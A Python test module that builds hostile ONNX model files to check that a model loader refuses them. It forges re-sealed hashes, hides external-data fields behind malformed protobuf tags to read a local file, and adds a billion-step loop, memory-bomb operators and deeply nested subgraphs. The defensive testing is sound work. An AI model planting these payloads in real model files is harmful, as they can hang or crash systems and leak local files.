"""Hostile model files, built from a real model directory with the `onnx` package.

Each builder rewrites `model.onnx` (or `model.int8.onnx`) of a copy of a model directory
and re-seals vocab.json with the new file's sha256, as an attacker who controls both files
would. tests/test_trust.py checks each refusal (message, time, memory) and
benchmarks/check_compat.py checks that every supported onnxruntime release refuses them
the same way. Every attack here worked against an earlier release of the runtime.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

from runtime.onnx_proto import encode_varint

MODEL_FILE = "model.onnx"
INT8_FILE = "model.int8.onnx"


varint = encode_varint


def field(number: int, payload: bytes, *, tag: bytes | None = None) -> bytes:
    """A length-delimited field; `tag` replaces the canonical tag bytes."""
    return (tag if tag is not None else varint(number << 3 | 2)) + varint(len(payload)) + payload


def smuggled_tag(number: int, wire: int) -> bytes:
    """The tag as a 5-byte varint with bit 32 set: protobuf keeps the low 32 bits."""
    return varint((number << 3 | wire) | (1 << 32))


def write(model_dir: Path, data: bytes, file: str = MODEL_FILE) -> None:
    """Write `file` and re-seal vocab.json to it (int8: as the only variant)."""
    (model_dir / file).write_bytes(data)
    vocab = json.loads((model_dir / "vocab.json").read_text())
    digest = hashlib.sha256(data).hexdigest()
    if file == MODEL_FILE:
        vocab["model_sha256"] = digest
    else:
        vocab["variants"] = {"int8": {"sha256": digest}}
    (model_dir / "vocab.json").write_text(json.dumps(vocab))


def default_proto(model_dir: Path) -> onnx.ModelProto:
    return onnx.load_from_string((model_dir / MODEL_FILE).read_bytes())


def with_graph(proto: onnx.ModelProto, graph_bytes: bytes) -> bytes:
    """ModelProto bytes with a hand-made GraphProto (field 7)."""
    rest = onnx.ModelProto()
    rest.CopyFrom(proto)
    rest.ClearField("graph")
    return rest.SerializeToString() + field(7, graph_bytes)


def add_before_softmax(proto: onnx.ModelProto, nodes: list, inits: list) -> bytes:
    """Insert `nodes` (the last one writes `logits2`) and feed `logits2` to the Softmax."""
    graph = proto.graph
    for node in graph.node:
        if node.op_type == "Softmax":
            node.input[0] = "logits2"
    head = list(graph.node)
    del graph.node[:]
    at = next(i for i, n in enumerate(head) if n.op_type == "Softmax")
    graph.node.extend(head[:at] + nodes + [helper.make_node("Identity", ["logits"], ["logits2"])])
    graph.node.extend(head[at:])
    graph.initializer.extend(inits)
    return proto.SerializeToString()


def external_data(model_dir: Path, smuggle: bool = True) -> bytes:
    """dense_b's bytes in `secret.bin` (a file in the working directory), the external-data
    fields written with 5-byte tags whose bit 32 a naive scanner reads and protobuf drops."""
    proto = default_proto(model_dir)
    tensor = TensorProto(name="dense_b", data_type=TensorProto.FLOAT, dims=[20]).SerializeToString()
    entry = field(1, b"location") + field(2, b"secret.bin")
    if smuggle:
        tensor += field(13, entry, tag=smuggled_tag(13, 2)) + smuggled_tag(14, 0) + varint(1)
    else:
        tensor += field(13, entry) + varint(14 << 3) + varint(1)
    rest = onnx.GraphProto()
    rest.CopyFrom(proto.graph)
    kept = [t for t in rest.initializer if t.name != "dense_b"]
    del rest.initializer[:]
    rest.initializer.extend(kept)
    data = with_graph(proto, rest.SerializeToString() + field(5, tensor))
    write(model_dir, data)
    return data


def function_in_int8(model_dir: Path) -> bytes:
    """A model-local function in onnxruntime's own domain, in the int8 file."""
    proto = default_proto(model_dir)
    body = helper.make_node("Identity", ["x"], ["y"])
    fn = helper.make_function(
        "com.microsoft", "Evil", ["x"], ["y"], [body], [helper.make_opsetid("", 17)]
    )
    proto.functions.append(fn)
    proto.opset_import.append(helper.make_opsetid("com.microsoft", 1))
    data = proto.SerializeToString()
    write(model_dir, data, INT8_FILE)
    return data


def huge_loop(model_dir: Path) -> bytes:
    """A standard-domain Loop of 2^62 steps: hangs a session at load."""
    proto = default_proto(model_dir)
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"])],
        "body",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
        ],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, [])],
    )
    inits = [
        numpy_helper.from_array(np.array(1 << 62, np.int64), "trips"),
        numpy_helper.from_array(np.array(True), "yes"),
    ]
    data = add_before_softmax(
        proto, [helper.make_node("Loop", ["trips", "yes"], [], body=body)], inits
    )
    write(model_dir, data)
    return data


def constant_of_shape(model_dir: Path) -> bytes:
    """2^28 floats (1 GiB) from a 21 KB file, allocated at load."""
    proto = default_proto(model_dir)
    inits = [numpy_helper.from_array(np.array([1 << 28], np.int64), "bomb_shape")]
    nodes = [helper.make_node("ConstantOfShape", ["bomb_shape"], ["bomb"])]
    data = add_before_softmax(proto, nodes, inits)
    write(model_dir, data)
    return data


def broadcast_in_int8(model_dir: Path) -> bytes:
    """Mul (an operator int8 graphs use) of [n, 1] and [1, n] weights: n² floats."""
    proto = default_proto(model_dir)
    n = 1 << 15
    inits = [
        numpy_helper.from_array(np.ones((n, 1), np.float32), "a"),
        numpy_helper.from_array(np.ones((1, n), np.float32), "b"),
    ]
    data = add_before_softmax(proto, [helper.make_node("Mul", ["a", "b"], ["square"])], inits)
    write(model_dir, data, INT8_FILE)
    return data


def input_dependent(model_dir: Path) -> bytes:
    """An allocation sized by the largest input id: a probe on zeros passes, real text not."""
    proto = default_proto(model_dir)
    nodes = [
        helper.make_node("Cast", ["char_ids"], ["ids64"], to=TensorProto.INT64),
        helper.make_node("ReduceMax", ["ids64"], ["biggest"], keepdims=1),
        helper.make_node("Reshape", ["biggest", "shape1"], ["biggest1"]),
        helper.make_node("Mul", ["biggest1", "million"], ["size"]),
        helper.make_node("ConstantOfShape", ["size"], ["bomb"]),
    ]
    inits = [
        numpy_helper.from_array(np.array([1], np.int64), "shape1"),
        numpy_helper.from_array(np.array([1 << 26], np.int64), "million"),
    ]
    data = add_before_softmax(proto, nodes, inits)
    write(model_dir, data)
    return data


def nested_subgraphs(model_dir: Path, levels: int = 60) -> bytes:
    """`levels` nested If subgraphs around a 40 MB weight (deeper than the onnx package
    nests, so built by hand): a scanner that copies each level needs gigabytes."""
    payload = numpy_helper.from_array(np.zeros(10 << 20, np.float32), "payload")
    graph = field(5, payload.SerializeToString())  # GraphProto.initializer
    for _ in range(levels):
        # AttributeProto: name, type GRAPH (5), g
        attribute = field(1, b"then_branch") + varint(20 << 3) + varint(5) + field(6, graph)
        node = field(1, b"yes") + field(2, b"o") + field(4, b"If") + field(5, attribute)
        graph = field(1, node)  # GraphProto.node
    proto = default_proto(model_dir)
    data = with_graph(proto, proto.graph.SerializeToString() + graph)
    write(model_dir, data)
    return data


# name -> (builder, precision to load, the refusal's tell-tale fragment)
HOSTILE: dict[str, tuple[Callable[[Path], bytes], str, str]] = {
    "external data behind a smuggled tag": (external_data, "fp32", "over 32 bits"),
    "function in com.microsoft (int8)": (function_in_int8, "int8", "model-local functions"),
    "Loop of 2^62 steps": (huge_loop, "fp32", "subgraph"),
    "ConstantOfShape of 2^28 floats": (constant_of_shape, "fp32", "'ConstantOfShape'"),
    "broadcast of two 2^15 weights (int8)": (broadcast_in_int8, "int8", "Mul"),
    "allocation sized by the input": (input_dependent, "fp32", "not one rnn-textgen writes"),
    "60 nested If around 40 MB": (nested_subgraphs, "fp32", "subgraph"),
}
